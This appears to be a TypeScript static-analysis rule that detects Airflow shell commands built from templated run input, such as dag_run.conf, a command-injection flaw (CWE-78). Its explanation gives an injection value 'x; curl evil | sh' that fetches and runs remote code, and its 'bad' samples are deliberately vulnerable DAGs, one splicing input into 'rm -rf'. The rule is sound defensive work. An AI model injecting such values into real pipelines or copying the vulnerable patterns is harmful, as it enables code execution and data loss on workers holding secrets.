import { runInputIn } from '../airflow-templated-operators.js';
import type { SyntaxNode } from '../parser.js';
import type { PythonContext, PythonRule } from '../python-rule.js';
import { airflowShellScripts, bashTaskScripts } from '../shell-scripts.js';

export const airflowTemplatedShell: PythonRule = {
  id: 'py.airflow.templated-shell-command',
  title: 'Airflow shell command templated with run input',
  category: 'sast',
  severity: 'high',
  confidence: 'high',
  cwe: ['CWE-78'],
  what:
    'Finds BashOperator bash_command and SSHOperator command strings, the script a KubernetesPodOperator hands a shell ' +
    '(cmds=["bash", "-c"] and the script in arguments), and the text a @task.bash function returns, whose Jinja expressions splice dag_run.conf ' +
    '(high confidence), or params, XCom pulls and Variables (medium), into the command text. Values piped through ' +
    'an int or float filter are left alone; commands built in Python are followed by the taint rules instead.',
  why:
    'Airflow renders the template and hands the result to bash. Anyone who may trigger the DAG — through the UI, the ' +
    'REST API or another DAG — chooses dag_run.conf, so a value such as `x; curl evil | sh` runs on the worker with ' +
    'its connections and secrets. Quoting inside the template does not help: the value can close the quote.',
  remediation:
    'Hand values to the command through env= (env={"TABLE": "{{ dag_run.conf[\'table\'] }}"}) and use them quoted ' +
    '("$TABLE"), or check them against an allow-list in a Python task first; declare params with a Param schema ' +
    '(enum or pattern) so that Airflow rejects bad values at trigger time.',
  bad: [
    {
      file: 'dags/load.py',
      code:
        'from airflow import DAG\n' +
        'from airflow.operators.bash import BashOperator\n\n' +
        'with DAG("load", schedule=None) as dag:\n' +
        '    BashOperator(task_id="load", bash_command="load.sh {{ dag_run.conf[\'table\'] }}")\n',
    },
    {
      file: 'dags/export.py',
      code:
        'from airflow import DAG\n' +
        'from airflow.providers.ssh.operators.ssh import SSHOperator\n\n' +
        'with DAG("export", schedule="@daily") as dag:\n' +
        '    SSHOperator(task_id="export", ssh_conn_id="etl", command="export.sh {{ ti.xcom_pull(task_ids=\'pick\') }}")\n',
    },
    {
      file: 'dags/compress.py',
      code:
        'from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\n\n' +
        'KubernetesPodOperator(task_id="gzip", name="gzip", image="etl:1", cmds=["bash", "-c"],\n' +
        '                      arguments=["gzip /data/{{ dag_run.conf[\'file\'] }}"])\n',
    },
    {
      file: 'dags/purge.py',
      code:
        'from airflow.decorators import task\n\n' +
        '@task.bash\n' +
        'def purge():\n' +
        '    return "rm -rf /data/{{ dag_run.conf[\'table\'] }}"\n',
    },
  ],
  good: [
    {
      file: 'dags/load.py',
      code:
        'from airflow import DAG\n' +
        'from airflow.operators.bash import BashOperator\n\n' +
        'with DAG("load", schedule=None) as dag:\n' +
        '    BashOperator(\n' +
        '        task_id="load",\n' +
        '        bash_command=\'load.sh "$TABLE" {{ ds }} --limit {{ params.limit | int }}\',\n' +
        '        env={"TABLE": "{{ dag_run.conf[\'table\'] }}"},\n' +
        '    )\n',
    },
  ],
  references: [
    'https://airflow.apache.org/docs/apache-airflow/stable/howto/operator/bash.html',
    'https://airflow.apache.org/docs/apache-airflow/stable/security/security_model.html',
    'https://cwe.mitre.org/data/definitions/78.html',
  ],
  onCall(call, ctx) {
    for (const { node, text, runner } of airflowShellScripts(call, ctx)) reportSplice(ctx, node, text, runner);
  },
  // A @task.bash function's returned text is the command, rendered like bash_command.
  onNode: {
    types: ['function_definition'],
    check(fn, ctx) {
      for (const { node, text, runner } of bashTaskScripts(fn, ctx)) reportSplice(ctx, node, text, runner);
    },
  },
};

function reportSplice(ctx: PythonContext, node: SyntaxNode, command: string, what: string): void {
  const spliced = runInputIn(command);
  if (spliced) ctx.report(node, { message: `${what} splices {{ ${spliced.expression} }} into the shell command Airflow runs`, confidence: spliced.confidence });
}
